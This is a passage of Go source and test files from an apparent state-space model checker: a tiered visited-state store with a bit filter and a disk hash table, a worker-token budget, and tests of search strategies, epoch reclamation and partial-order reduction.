		ts.filterNeg.Add(1)
	}
	sh.m[d.h1] = d.h2
	sh.ring = append(sh.ring, d.h1)
	sh.mu.Unlock()
	ts.stored.Add(1)
	r := ts.resident.Add(1)
	for {
		p := ts.peak.Load()
		if r <= p || ts.peak.CompareAndSwap(p, r) {
			break
		}
	}
	if r > ts.budget {
		ts.evictOne()
	}
	return false
}

func (ts *tieredStore) peek(d digest) bool {
	sh := &ts.shards[d.h1>>58&(tieredShards-1)]
	sh.mu.Lock()
	if _, ok := sh.m[d.h1]; ok {
		sh.mu.Unlock()
		return true
	}
	if ts.filter.maybeContains(d.h1) {
		if _, ok := ts.disk.lookup(d.h1); ok {
			sh.mu.Unlock()
			return true
		}
	}
	sh.mu.Unlock()
	return false
}

// size counts distinct stored fingerprints across the hot and disk
// tiers. A digest mid-spill is briefly counted in both (its disk
// record is written before its hot entry is deleted), so the count is
// exact only while the spiller is quiescent — the engine reads it
// after close has drained the spill queue.
func (ts *tieredStore) size() int {
	return int(ts.resident.Load() + ts.disk.count())
}

// evictOne picks the oldest hot entry of the next shard (round-robin)
// and queues it for spill. The entry stays visible in the hot tier
// until the spiller has made it durable in the disk tier.
func (ts *tieredStore) evictOne() {
	for tries := 0; tries < tieredShards; tries++ {
		sh := &ts.shards[ts.evictCursor.Add(1)&(tieredShards-1)]
		var d digest
		found := false
		sh.mu.Lock()
		for sh.head < len(sh.ring) {
			h1 := sh.ring[sh.head]
			sh.head++
			if sh.head == len(sh.ring) {
				sh.ring = sh.ring[:0]
				sh.head = 0
			}
			if h2, ok := sh.m[h1]; ok {
				d, found = digest{h1: h1, h2: h2}, true
				break
			}
		}
		sh.mu.Unlock()
		if found {
			ts.spillCh <- d
			return
		}
	}
}

// spillHint marks d a preferred eviction candidate: the reclamation
// layer calls it when the state behind d retires (proven cold —
// expanded and unreachable from any live worker), so under memory
// pressure eviction ordering follows epoch order. Below budget the
// hint is a no-op — nothing needs to leave memory.
func (ts *tieredStore) spillHint(d digest) {
	if ts.resident.Load() <= ts.budget {
		return
	}
	ts.spillCh <- d
}

// spiller is the single write-behind goroutine: for each queued digest
// still resident in the hot tier it writes the disk record, sets the
// filter bits, and only then deletes the hot entry (under the shard
// lock every lookup holds), preserving hot ∪ disk visibility at every
// instant.
func (ts *tieredStore) spiller() {
	defer ts.spillWG.Done()
	for d := range ts.spillCh {
		sh := &ts.shards[d.h1>>58&(tieredShards-1)]
		sh.mu.Lock()
		h2, ok := sh.m[d.h1]
		sh.mu.Unlock()
		if !ok {
			continue // already spilled (duplicate hint) or never stored
		}
		if err := ts.disk.insert(d.h1, h2); err != nil {
			// Disk-tier failure (out of space): keep the entry hot —
			// correctness is unaffected, the run just stops shrinking.
			continue
		}
		ts.filter.set(d.h1)
		sh.mu.Lock()
		delete(sh.m, d.h1)
		sh.mu.Unlock()
		ts.resident.Add(-1)
		ts.spilled.Add(1)
	}
}

// close stops the spiller, releases the tier files, and returns the
// run's per-tier counters. Callers must have quiesced every search
// goroutine first (the engine closes from finish, after the strategy
// returned).
func (ts *tieredStore) close() StoreStats {
	close(ts.spillCh)
	ts.spillWG.Wait()
	st := StoreStats{
		HotHits:       ts.hotHits.Load(),
		DiskHits:      ts.diskHits.Load(),
		FilterRejects: ts.filterNeg.Load(),
		StoredNew:     ts.stored.Load(),
		Spilled:       ts.spilled.Load(),
		H1Collisions:  ts.h1Collide.Load(),
		PeakResident:  ts.peak.Load(),
	}
	ts.filter.close()
	ts.disk.close()
	return st
}

// mix64 avalanches h1 into the independent second word the filter's
// double-hash probe stride needs. Pure word mixing of an
// already-funnelled digest — no state bytes are hashed here, so the
// single-funnel property (digestfunnel) is preserved by construction.
func mix64(h uint64) uint64 {
	h ^= h >> 30
	h *= 0xbf58476d1ce4e5b9
	h ^= h >> 27
	h *= 0x94d049bb133111eb
	h ^= h >> 31
	return h
}

// filterLogBits sizes the filter at 2^27 bits = 16 MB — k=3 probes keep
// the false-positive rate under ~1% up to ~10M spilled fingerprints,
// and a false positive only costs one disk probe, never correctness.
const (
	filterLogBits = 27
	filterK       = 3
)

// bitFilter is the middle tier: a file-backed (mmap where available)
// bit array over the spilled fingerprints. Probes derive from h1 alone
// — the membership key — so the filter can never reject a fingerprint
// the disk tier holds.
type bitFilter struct {
	words []uint64
	mask  uint64
	mf    *mappedFile
}

func newBitFilter(path string) (*bitFilter, error) {
	n := uint64(1) << filterLogBits
	mf, err := openMapped(path, int(n/8))
	if err != nil {
		return nil, fmt.Errorf("checker: tiered store filter: %w", err)
	}
	return &bitFilter{words: mf.words, mask: n - 1, mf: mf}, nil
}

func (f *bitFilter) probe(h1 uint64, i int) uint64 {
	return (h1 + uint64(i)*(mix64(h1)|1)) & f.mask
}

func (f *bitFilter) maybeContains(h1 uint64) bool {
	for i := 0; i < filterK; i++ {
		pos := f.probe(h1, i)
		if atomic.LoadUint64(&f.words[pos/64])&(1<<(pos%64)) == 0 {
			return false
		}
	}
	return true
}

func (f *bitFilter) set(h1 uint64) {
	for i := 0; i < filterK; i++ {
		pos := f.probe(h1, i)
		w, bit := &f.words[pos/64], uint64(1)<<(pos%64)
		// Load + CAS rather than atomic.OrUint64 — see
		// atomicBitStore.setBit for the miscompilation this sidesteps.
		for {
			old := atomic.LoadUint64(w)
			if old&bit != 0 || atomic.CompareAndSwapUint64(w, old, old|bit) {
				break
			}
		}
	}
}

func (f *bitFilter) close() { f.mf.close() }

// diskTable is the bottom tier: an open-addressed, linear-probed hash
// table file of 16-byte (h1, h2) little-endian records; a record of
// all zeroes is an empty slot (the one real digest colliding with that
// encoding is tracked out of band). Records are never deleted. Inserts
// come only from the spiller goroutine; lookups take the read lock, so
// growth (a rebuild into a doubled file) excludes them.
type diskTable struct {
	mu      sync.RWMutex
	dir     string
	gen     int
	mf      *mappedFile
	mask    uint64
	n       uint64
	hasZero bool
}

// diskTableInitLog is log2 of the initial record capacity (2^16 × 16 B
// = 1 MB); the table rebuilds at double size past 60% load.
const diskTableInitLog = 16

func newDiskTable(dir string) (*diskTable, error) {
	dt := &diskTable{dir: dir}
	if err := dt.open(diskTableInitLog); err != nil {
		return nil, err
	}
	return dt, nil
}

func (dt *diskTable) open(logCap int) error {
	cap := uint64(1) << logCap
	mf, err := openMapped(filepath.Join(dt.dir, fmt.Sprintf("disk-%d.tbl", dt.gen)), int(cap*16))
	if err != nil {
		return fmt.Errorf("checker: tiered store disk tier: %w", err)
	}
	dt.mf = mf
	dt.mask = cap - 1
	return nil
}

func (dt *diskTable) record(idx uint64) (h1, h2 uint64) {
	return dt.mf.words[idx*2], dt.mf.words[idx*2+1]
}

func (dt *diskTable) setRecord(idx, h1, h2 uint64) {
	dt.mf.words[idx*2], dt.mf.words[idx*2+1] = h1, h2
}

func (dt *diskTable) lookup(h1 uint64) (h2 uint64, ok bool) {
	dt.mu.RLock()
	defer dt.mu.RUnlock()
	if h1 == 0 && dt.hasZero {
		// The all-zero digest cannot be distinguished from an empty
		// slot in record form; its h2 is not retained.
		return 0, true
	}
	for idx := h1 & dt.mask; ; idx = (idx + 1) & dt.mask {
		r1, r2 := dt.record(idx)
		if r1 == 0 && r2 == 0 {
			return 0, false
		}
		if r1 == h1 {
			return r2, true
		}
	}
}

// insert adds (h1, h2) if absent. Spiller-goroutine only.
func (dt *diskTable) insert(h1, h2 uint64) error {
	dt.mu.Lock()
	defer dt.mu.Unlock()
	if h1 == 0 && h2 == 0 {
		dt.hasZero = true
		return nil
	}
	if dt.n*10 >= (dt.mask+1)*6 {
		if err := dt.grow(); err != nil {
			return err
		}
	}
	for idx := h1 & dt.mask; ; idx = (idx + 1) & dt.mask {
		r1, r2 := dt.record(idx)
		if r1 == 0 && r2 == 0 {
			dt.setRecord(idx, h1, h2)
			dt.n++
			return nil
		}
		if r1 == h1 {
			return nil
		}
	}
}

// grow rebuilds into a doubled file and removes the old generation.
// Caller holds the write lock.
func (dt *diskTable) grow() error {
	old, oldMask := dt.mf, dt.mask
	oldPath := old.path
	dt.gen++
	logCap := 1
	for c := (oldMask + 1) * 2; c > 1; c >>= 1 {
		logCap++
	}
	if err := dt.open(logCap - 1); err != nil {
		dt.mf, dt.mask = old, oldMask
		dt.gen--
		return err
	}
	for i := uint64(0); i <= oldMask; i++ {
		h1, h2 := old.words[i*2], old.words[i*2+1]
		if h1 == 0 && h2 == 0 {
			continue
		}
		for idx := h1 & dt.mask; ; idx = (idx + 1) & dt.mask {
			r1, r2 := dt.record(idx)
			if r1 == 0 && r2 == 0 {
				dt.setRecord(idx, h1, h2)
				break
			}
		}
	}
	old.close()
	os.Remove(oldPath)
	return nil
}

func (dt *diskTable) count() int64 {
	dt.mu.RLock()
	defer dt.mu.RUnlock()
	n := int64(dt.n)
	if dt.hasZero {
		n++
	}
	return n
}

func (dt *diskTable) close() {
	dt.mu.Lock()
	defer dt.mu.Unlock()
	dt.mf.close()
}

// mappedFile is a file-backed []uint64: memory-mapped where the
// platform supports it (mmap_unix.go), a heap buffer written back on
// close elsewhere (mmap_fallback.go). The words view is little-endian
// on disk in the fallback; the mmap path inherits native order, which
// is fine — tier files are per-run scratch, never moved across hosts.
type mappedFile struct {
	f     *os.File
	path  string
	words []uint64
	raw   []byte
	unmap func() error
	heap  bool
}

func openMapped(path string, size int) (*mappedFile, error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, err
	}
	if err := f.Truncate(int64(size)); err != nil {
		f.Close()
		return nil, err
	}
	mf := &mappedFile{f: f, path: path}
	if data, unmap, err := mapFile(f, size); err == nil {
		mf.raw = data
		mf.unmap = unmap
		mf.words = bytesToWords(data)
		return mf, nil
	}
	// Portable fallback: heap-resident, flushed on close. Loses the
	// out-of-core property on platforms without mmap but keeps every
	// search semantically identical.
	mf.heap = true
	mf.words = make([]uint64, size/8)
	return mf, nil
}

func (mf *mappedFile) close() {
	if mf.heap {
		buf := make([]byte, len(mf.words)*8)
		for i, w := range mf.words {
			binary.LittleEndian.PutUint64(buf[i*8:], w)
		}
		mf.f.WriteAt(buf, 0)
	} else if mf.unmap != nil {
		mf.unmap()
	}
	mf.f.Close()
}
