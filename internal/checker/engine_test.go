package checker

import (
	"fmt"
	"runtime"
	"sort"
	"testing"
	"time"
)

// multiViolSys raises two violations on every transition — it exercises
// the MaxViolations cap mid-expansion (the old checker consulted limits
// only once per loop iteration and overshot).
type multiViolSys struct{ width int }

type intState int

func (s intState) Encode(buf []byte) []byte { return append(buf, byte(s), byte(s>>8)) }

func (m *multiViolSys) Initial() State { return intState(0) }

func (m *multiViolSys) Expand(s State) []Transition {
	v := int(s.(intState))
	if v >= m.width {
		return nil
	}
	n := v + 1
	return []Transition{{
		Label: fmt.Sprintf("step-%d", n),
		Next:  intState(n),
		Violations: []Violation{
			{Property: "p-even", Detail: fmt.Sprintf("at %d", n)},
			{Property: "p-odd", Detail: fmt.Sprintf("at %d", n)},
		},
	}}
}

func (m *multiViolSys) Inspect(State) []Violation { return nil }

func violationKeys(res *Result) []string {
	var keys []string
	for _, f := range res.Violations {
		keys = append(keys, f.Property+"\x00"+f.Detail)
	}
	sort.Strings(keys)
	return keys
}

func strategies() map[string]Options {
	return map[string]Options{
		"dfs":        {Strategy: StrategyDFS},
		"parallel":   {Strategy: StrategyParallel},
		"parallel-1": {Strategy: StrategyParallel, Workers: 1},
		"steal":      {Strategy: StrategySteal},
		"steal-1":    {Strategy: StrategySteal, Workers: 1},
		"steal-4":    {Strategy: StrategySteal, Workers: 4},
	}
}

// TestMaxViolationsNeverOvershot: even when a single transition raises
// several violations, the cap is exact for every strategy.
func TestMaxViolationsNeverOvershot(t *testing.T) {
	for name, base := range strategies() {
		for _, cap := range []int{1, 3} {
			opts := base
			opts.MaxDepth = 64
			opts.MaxViolations = cap
			res := Run(&multiViolSys{width: 40}, opts)
			if len(res.Violations) != cap {
				t.Errorf("%s cap=%d: got %d violations", name, cap, len(res.Violations))
			}
			if !res.Truncated {
				t.Errorf("%s cap=%d: Truncated not set", name, cap)
			}
		}
	}
}

// TestTruncationLimits: MaxStates, MaxDepth, and Deadline all mark the
// result truncated, for both strategies, without large overshoot.
func TestTruncationLimits(t *testing.T) {
	slack := 2 * runtime.GOMAXPROCS(0) // parallel workers may each finish one expansion
	for name, base := range strategies() {
		opts := base
		opts.MaxDepth = 64
		opts.MaxStates = 50
		res := Run(&chainSys{bound: 30, bad: -1}, opts)
		if !res.Truncated {
			t.Errorf("%s: MaxStates run not truncated", name)
		}
		if res.StatesExplored > 50+slack {
			t.Errorf("%s: explored %d states, cap 50 (+%d slack)", name, res.StatesExplored, slack)
		}

		opts = base
		opts.MaxDepth = 3
		res = Run(&chainSys{bound: 30, bad: -1}, opts)
		if res.MaxDepthReached > 3 {
			t.Errorf("%s: depth %d exceeds bound 3", name, res.MaxDepthReached)
		}
		if !res.Truncated {
			t.Errorf("%s: MaxDepth run not truncated", name)
		}

		opts = base
		opts.MaxDepth = 64
		opts.Deadline = time.Nanosecond
		res = Run(&chainSys{bound: 30, bad: -1}, opts)
		if !res.Truncated {
			t.Errorf("%s: Deadline run not truncated", name)
		}
	}
}

// TestBitstateFalsePositives: with a tiny bit array the bitstate store
// reports unseen states as matched (supertrace's completeness
// trade-off), so exploration shrinks versus the exhaustive store and
// StatesMatched inflates beyond the true duplicate count.
func TestBitstateFalsePositives(t *testing.T) {
	for name, base := range strategies() {
		ex := base
		ex.MaxDepth = 24
		exRes := Run(&chainSys{bound: 18, bad: -1}, ex)

		bs := base
		bs.MaxDepth = 24
		bs.Store = Bitstate
		bs.BitstateBits = 10 // 1024 bits — far below the state count
		bsRes := Run(&chainSys{bound: 18, bad: -1}, bs)

		if bsRes.StatesExplored >= exRes.StatesExplored {
			t.Errorf("%s: bitstate explored %d, want fewer than exhaustive %d (false positives must prune)",
				name, bsRes.StatesExplored, exRes.StatesExplored)
		}
		if bsRes.StatesMatched == 0 {
			t.Errorf("%s: bitstate matched no states under a saturated bit array", name)
		}
		if bsRes.StatesStored > 1<<10 {
			t.Errorf("%s: bitstate stored %d > bit capacity", name, bsRes.StatesStored)
		}
	}
}

// TestParallelMatchesDFSOnToys: the parallel strategy reports the same
// distinct-violation set as sequential DFS on fully explored systems.
func TestParallelMatchesDFSOnToys(t *testing.T) {
	systems := map[string]System{
		"chain":     &chainSys{bound: 8, bad: 24},
		"multiViol": &multiViolSys{width: 12},
	}
	for name, sys := range systems {
		seq := Run(sys, Options{MaxDepth: 32})
		for _, strat := range []StrategyKind{StrategyParallel, StrategySteal} {
			par := Run(sys, Options{MaxDepth: 32, Strategy: strat})
			if seq.Truncated || par.Truncated {
				t.Fatalf("%s/%v: unexpected truncation", name, strat)
			}
			if got, want := violationKeys(par), violationKeys(seq); !equalStrings(got, want) {
				t.Errorf("%s: %v violations %v != dfs %v", name, strat, got, want)
			}
			if par.StatesExplored != seq.StatesExplored {
				t.Errorf("%s: %v explored %d, dfs %d", name, strat, par.StatesExplored, seq.StatesExplored)
			}
		}
	}
}

// TestParallelTrailReplays: a trail reconstructed from parent links must
// be a genuine path of the system — replaying its labels from the
// initial state reaches the reported violation.
func TestParallelTrailReplays(t *testing.T) {
	sys := &chainSys{bound: 8, bad: 24}
	res := Run(sys, Options{MaxDepth: 32, Strategy: StrategyParallel})
	if !res.HasViolation("bad-value") {
		t.Fatal("violation not found")
	}
	for _, f := range res.Violations {
		if f.Depth != len(f.Trail) {
			t.Errorf("depth=%d trail=%d", f.Depth, len(f.Trail))
		}
		cur := sys.Initial()
		for i, step := range f.Trail {
			var next State
			for _, tr := range sys.Expand(cur) {
				if tr.Label == step.Label {
					next = tr.Next
					break
				}
			}
			if next == nil {
				t.Fatalf("trail step %d (%q) is not a transition of the current state", i, step.Label)
			}
			cur = next
		}
		if len(sys.Inspect(cur)) == 0 {
			t.Errorf("replayed trail for %s ends in a non-violating state", f.Violation)
		}
	}
}

// TestParallelNoDedup: NoDedup explores every path in parallel too.
func TestParallelNoDedup(t *testing.T) {
	dedup := Run(&chainSys{bound: 10, bad: -1}, Options{MaxDepth: 16, Strategy: StrategyParallel})
	nodedup := Run(&chainSys{bound: 10, bad: -1}, Options{MaxDepth: 16, Strategy: StrategyParallel, NoDedup: true})
	if nodedup.StatesExplored <= dedup.StatesExplored {
		t.Errorf("NoDedup explored %d <= dedup %d", nodedup.StatesExplored, dedup.StatesExplored)
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
