package checker

import (
	"sync"
	"sync/atomic"
	"testing"
)

// The tests in this file validate the epoch-based reclamation layer
// (reclaim.go) with a *poisoning* recycler: every state handed to
// Recycle is marked dead before it returns to the free list, and every
// Expand asserts the state it was given is alive. A state recycled
// while another worker could still expand it is therefore caught two
// ways — deterministically by the dead-flag assertion (counted in
// poisoned), and under -race by the unsynchronised dead-flag write
// racing the reader. Equivalence against a sequential DFS reference
// then confirms reclamation loses no work and fabricates none.

// poisonState is a heap-allocated grid cell; dead is the poison flag.
type poisonState struct {
	x, y int
	dead bool
}

func (s *poisonState) Encode(buf []byte) []byte {
	return append(buf, byte(s.x), byte(s.x>>8), byte(s.y), byte(s.y>>8))
}

// poisonGrid is a w×h diamond lattice (moves: right, down) — the
// densest duplicate structure per state, so most children die on the
// visited-store match and flow through the recycler; the fan at each
// anti-diagonal gives thieves real work to steal.
type poisonGrid struct {
	w, h int

	mu     sync.Mutex
	free   []*poisonState
	trFree [][]Transition

	recycled atomic.Int64 // states handed back via Recycle
	poisoned atomic.Int64 // uses of a dead state / double recycles
}

func (p *poisonGrid) get(x, y int) *poisonState {
	p.mu.Lock()
	var s *poisonState
	if n := len(p.free); n > 0 {
		s, p.free = p.free[n-1], p.free[:n-1]
	}
	p.mu.Unlock()
	if s == nil {
		return &poisonState{x: x, y: y}
	}
	s.x, s.y, s.dead = x, y, false
	return s
}

func (p *poisonGrid) getTrs() []Transition {
	p.mu.Lock()
	defer p.mu.Unlock()
	if n := len(p.trFree); n > 0 {
		trs := p.trFree[n-1]
		p.trFree = p.trFree[:n-1]
		return trs[:0]
	}
	return nil
}

func (p *poisonGrid) Initial() State { return p.get(0, 0) }

func (p *poisonGrid) Expand(st State) []Transition {
	s := st.(*poisonState)
	if s.dead {
		p.poisoned.Add(1)
		return nil
	}
	out := p.getTrs()
	if s.x < p.w {
		out = append(out, Transition{Label: "right", Next: p.get(s.x+1, s.y)})
	}
	if s.y < p.h {
		out = append(out, Transition{Label: "down", Next: p.get(s.x, s.y+1)})
	}
	return out
}

func (p *poisonGrid) Inspect(st State) []Violation {
	s := st.(*poisonState)
	if s.dead {
		p.poisoned.Add(1)
		return nil
	}
	if s.x == p.w && s.y == p.h {
		return []Violation{{Property: "corner", Detail: "reached far corner"}}
	}
	return nil
}

func (p *poisonGrid) Recycle(st State) {
	s := st.(*poisonState)
	if s.dead {
		p.poisoned.Add(1)
		return
	}
	s.dead = true
	s.x, s.y = -1, -1
	p.recycled.Add(1)
	p.mu.Lock()
	p.free = append(p.free, s)
	p.mu.Unlock()
}

func (p *poisonGrid) RecycleTransitions(trs []Transition) {
	p.mu.Lock()
	p.trFree = append(p.trFree, trs)
	p.mu.Unlock()
}

// TestEpochReclaimPoison: both parallel strategies, recycling on, must
// explore the exact DFS state space with zero dead-state uses — the
// epoch grace period has to keep every stolen-but-unexpanded state
// alive past its parent's retirement. Run repeatedly (and under -race
// in CI) because the hazardous interleavings are probabilistic.
func TestEpochReclaimPoison(t *testing.T) {
	mk := func() *poisonGrid { return &poisonGrid{w: 48, h: 48} }
	opts := Options{MaxDepth: 200}

	ref := mk()
	seq := Run(ref, opts)
	if seq.Truncated || len(seq.Violations) != 1 {
		t.Fatalf("reference run: truncated=%v violations=%d", seq.Truncated, len(seq.Violations))
	}
	if ref.poisoned.Load() != 0 {
		t.Fatalf("dfs reference used %d dead states", ref.poisoned.Load())
	}

	for _, strat := range []StrategyKind{StrategySteal, StrategyParallel} {
		for run := 0; run < 4; run++ {
			sys := mk()
			o := opts
			o.Strategy = strat
			o.Workers = 8
			res := Run(sys, o)
			if n := sys.poisoned.Load(); n != 0 {
				t.Fatalf("%v run %d: %d dead-state uses — reclamation freed a live state", strat, run, n)
			}
			if sys.recycled.Load() == 0 {
				t.Errorf("%v run %d: recycler never invoked — the hot path under test did not run", strat, run)
			}
			if res.StatesExplored != seq.StatesExplored || res.StatesMatched != seq.StatesMatched ||
				res.StatesStored != seq.StatesStored {
				t.Errorf("%v run %d: explored=%d matched=%d stored=%d, dfs %d/%d/%d",
					strat, run, res.StatesExplored, res.StatesMatched, res.StatesStored,
					seq.StatesExplored, seq.StatesMatched, seq.StatesStored)
			}
			if len(res.Violations) != len(seq.Violations) {
				t.Errorf("%v run %d: %d violations, want %d", strat, run, len(res.Violations), len(seq.Violations))
			}
		}
	}

	// Escape hatch: with reclamation off the parallel strategies must
	// never call Recycle (DFS keeps its free-lists regardless).
	sys := mk()
	res := Run(sys, Options{MaxDepth: 200, Strategy: StrategySteal, Workers: 8, NoEpochReclaim: true})
	if sys.recycled.Load() != 0 {
		t.Errorf("NoEpochReclaim: steal still recycled %d states", sys.recycled.Load())
	}
	if res.StatesExplored != seq.StatesExplored {
		t.Errorf("NoEpochReclaim: explored=%d, dfs %d", res.StatesExplored, seq.StatesExplored)
	}
}

// poisonPulse is pulseSys (retire_test.go) with heap states and the
// poisoning recycler: narrow chain phases retire grown workers —
// taking their reclamation slots offline and handing unswept limbo to
// any replacement — and wide fan phases respawn them onto the same
// slot. Epoch advancement must keep working across the churn (an
// offline slot must not stall the global epoch) and handed-over limbo
// must still drain.
type poisonPulse struct {
	cycles, chain, fan int

	mu   sync.Mutex
	free []*pulsePState

	recycled atomic.Int64
	poisoned atomic.Int64
}

type pulsePState struct {
	c, phase, i int
	dead        bool
}

func (s *pulsePState) Encode(buf []byte) []byte {
	return append(buf, byte(s.c), byte(s.phase), byte(s.i), byte(s.i>>8))
}

func (p *poisonPulse) get(c, phase, i int) *pulsePState {
	p.mu.Lock()
	var s *pulsePState
	if n := len(p.free); n > 0 {
		s, p.free = p.free[n-1], p.free[:n-1]
	}
	p.mu.Unlock()
	if s == nil {
		return &pulsePState{c: c, phase: phase, i: i}
	}
	s.c, s.phase, s.i, s.dead = c, phase, i, false
	return s
}

func (p *poisonPulse) Initial() State { return p.get(0, 0, 0) }

func (p *poisonPulse) Expand(st State) []Transition {
	s := st.(*pulsePState)
	if s.dead {
		p.poisoned.Add(1)
		return nil
	}
	if s.c >= p.cycles {
		return nil
	}
	if s.phase == 0 {
		if s.i < p.chain {
			return []Transition{{Label: "step", Next: p.get(s.c, 0, s.i+1)}}
		}
		out := make([]Transition, p.fan)
		for j := 0; j < p.fan; j++ {
			out[j] = Transition{Label: "fan", Next: p.get(s.c, 1, j)}
		}
		return out
	}
	return []Transition{{Label: "join", Next: p.get(s.c+1, 0, 0)}}
}

func (p *poisonPulse) Inspect(st State) []Violation {
	s := st.(*pulsePState)
	if s.dead {
		p.poisoned.Add(1)
		return nil
	}
	if s.c == p.cycles {
		return []Violation{{Property: "end-reached", Detail: "final cycle"}}
	}
	return nil
}

func (p *poisonPulse) Recycle(st State) {
	s := st.(*pulsePState)
	if s.dead {
		p.poisoned.Add(1)
		return
	}
	s.dead = true
	s.c, s.phase, s.i = -1, -1, -1
	p.recycled.Add(1)
	p.mu.Lock()
	p.free = append(p.free, s)
	p.mu.Unlock()
}

// TestEpochReclaimRetireRespawnChurn hammers epoch advancement against
// worker retire/respawn under a two-token budget (every grown worker
// funnels through the same token and usually the same reclamation
// slot). With -race this additionally validates the
// offline-before-republish ordering in strategy_steal.go: a retiring
// worker must zero its reclamation slot before the freed deque index
// becomes claimable, or the replacement's pin would be wiped.
func TestEpochReclaimRetireRespawnChurn(t *testing.T) {
	mk := func() *poisonPulse { return &poisonPulse{cycles: 6, chain: 100, fan: 32} }
	ref := mk()
	seq := Run(ref, Options{MaxDepth: 10000})
	if seq.Truncated {
		t.Fatal("reference run truncated")
	}

	for run := 0; run < 5; run++ {
		sys := mk()
		b := NewWorkerBudget(2)
		b.Acquire()
		res := Run(sys, Options{MaxDepth: 10000, Strategy: StrategySteal, Workers: 4, Budget: b})
		b.Release()
		if !b.TryAcquire() || !b.TryAcquire() {
			t.Fatalf("run %d: search leaked budget tokens", run)
		}
		if n := sys.poisoned.Load(); n != 0 {
			t.Fatalf("run %d: %d dead-state uses across retire/respawn churn", run, n)
		}
		if sys.recycled.Load() == 0 {
			t.Errorf("run %d: recycler never invoked", run)
		}
		if res.StatesExplored != seq.StatesExplored || res.StatesMatched != seq.StatesMatched ||
			res.StatesStored != seq.StatesStored {
			t.Errorf("run %d: explored=%d matched=%d stored=%d, dfs %d/%d/%d",
				run, res.StatesExplored, res.StatesMatched, res.StatesStored,
				seq.StatesExplored, seq.StatesMatched, seq.StatesStored)
		}
		if len(res.Violations) != len(seq.Violations) {
			t.Errorf("run %d: %d violations, want %d", run, len(res.Violations), len(seq.Violations))
		}
	}
}
