package checker

import "runtime"

// WorkerBudget is a token pool bounding the total number of search
// worker goroutines running concurrently across several verification
// runs. The group scheduler in the iotsan package creates one budget
// sized by Options.Workers and shares it between related-set
// verifications: each run's first worker rides the admission token the
// scheduler acquired for it, and the work-stealing strategy grows
// additional workers only while spare tokens exist — so workers freed
// by a finished group are absorbed by groups that still have work.
type WorkerBudget struct {
	tokens chan struct{}
}

// NewWorkerBudget creates a budget of n tokens (n <= 0 = GOMAXPROCS).
func NewWorkerBudget(n int) *WorkerBudget {
	if n <= 0 {
		n = runtime.GOMAXPROCS(0)
	}
	b := &WorkerBudget{tokens: make(chan struct{}, n)}
	for i := 0; i < n; i++ {
		b.tokens <- struct{}{}
	}
	return b
}

// Size returns the total token count.
func (b *WorkerBudget) Size() int { return cap(b.tokens) }

// Acquire blocks until a token is available.
func (b *WorkerBudget) Acquire() { <-b.tokens }

// TryAcquire takes a token if one is immediately available.
func (b *WorkerBudget) TryAcquire() bool {
	select {
	case <-b.tokens:
		return true
	default:
		return false
	}
}

// Release returns a token to the pool.
func (b *WorkerBudget) Release() { b.tokens <- struct{}{} }
