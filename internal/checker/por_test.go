package checker

import "testing"

// porToySys is a 4-state graph with a back edge: 0→{1,2}, 1→{0,3},
// 2→{3}. Its reducer selects transition 0 at every branching state —
// at state 0 that is the edge to 1 (fresh the first time), at state 1
// the back edge to 0 (always visited) — which exercises both proviso
// branches of engine.expand: accept-on-fresh and fall-back-when-all-
// selected-successors-are-visited.
type porToySys struct{ certified bool }

func (p *porToySys) Initial() State { return intState(0) }

func (p *porToySys) Expand(s State) []Transition {
	step := func(v int) Transition { return Transition{Label: "t", Next: intState(v)} }
	switch int(s.(intState)) {
	case 0:
		return []Transition{step(1), step(2)}
	case 1:
		return []Transition{step(0), step(3)}
	case 2:
		return []Transition{step(3)}
	}
	return nil
}

func (p *porToySys) Inspect(s State) []Violation {
	if int(s.(intState)) == 3 {
		return []Violation{{Property: "reach-3", Detail: "terminal"}}
	}
	return nil
}

func (p *porToySys) Reduce(s State, trs []Transition) []int {
	if len(trs) < 2 {
		return nil
	}
	return []int{0}
}

func (p *porToySys) CertifiesProgress() bool { return p.certified }

// TestPORProvisoFallback: an uncertified reducer whose subset leads
// only to visited states must be overridden by the visited-state
// proviso — the full expansion runs, the fallback is counted, and no
// reachable violation is lost.
func TestPORProvisoFallback(t *testing.T) {
	res := Run(&porToySys{}, Options{MaxDepth: 16, POR: true})
	if !res.HasViolation("reach-3") {
		t.Fatal("violation masked: the proviso fallback did not expand fully")
	}
	if res.PORFallbacks == 0 {
		t.Errorf("expected at least one proviso fallback, counters: choices=%d fallbacks=%d",
			res.PORChoicePoints, res.PORFallbacks)
	}
	// State 0's reduction is accepted (successor 1 is fresh), pruning
	// the direct edge to 2; state 2 then stays unexplored.
	if res.PORChoicePoints != 1 || res.StatesExplored != 3 {
		t.Errorf("choices=%d explored=%d, want 1 choice pruning state 2 (3 states explored)",
			res.PORChoicePoints, res.StatesExplored)
	}

	// Without POR the same system explores all 4 states.
	full := Run(&porToySys{}, Options{MaxDepth: 16})
	if full.StatesExplored != 4 || full.PORChoicePoints != 0 {
		t.Errorf("baseline explored=%d choices=%d, want 4 states and no POR activity",
			full.StatesExplored, full.PORChoicePoints)
	}
}

// TestPORCertifiedSkipsProviso: a progress-certified reducer is exempt
// from the visited-state probe — its subsets are taken as-is (state 1's
// back-edge subset is accepted, so state 3 via 1 is pruned and no
// fallback is counted).
func TestPORCertifiedSkipsProviso(t *testing.T) {
	res := Run(&porToySys{certified: true}, Options{MaxDepth: 16, POR: true})
	if res.PORFallbacks != 0 {
		t.Errorf("certified reducer hit %d proviso fallbacks, want 0", res.PORFallbacks)
	}
	if res.PORChoicePoints != 2 {
		t.Errorf("choices=%d, want both branching states reduced", res.PORChoicePoints)
	}
}

// TestPORAppliesToAllStrategies: the reduced graph is the same for
// DFS, the level-synchronous strategy, and work-stealing — POR routes
// through the shared expansion path everywhere.
func TestPORAppliesToAllStrategies(t *testing.T) {
	for name, base := range strategies() {
		opts := base
		opts.MaxDepth = 16
		opts.POR = true
		res := Run(&porToySys{}, opts)
		if !res.HasViolation("reach-3") {
			t.Errorf("%s: violation masked under POR", name)
		}
		if res.StatesExplored != 3 {
			t.Errorf("%s: explored %d states, want the reduced graph's 3", name, res.StatesExplored)
		}
		if res.PORChoicePoints == 0 {
			t.Errorf("%s: reducer never engaged", name)
		}
	}
}
