package checker

import (
	"runtime"
	"testing"
	"time"
)

// workState is a node of a pure tree: level and index within the level.
type workState struct{ level, idx uint64 }

func (s workState) Encode(buf []byte) []byte {
	return append(buf,
		byte(s.level),
		byte(s.idx), byte(s.idx>>8), byte(s.idx>>16), byte(s.idx>>24))
}

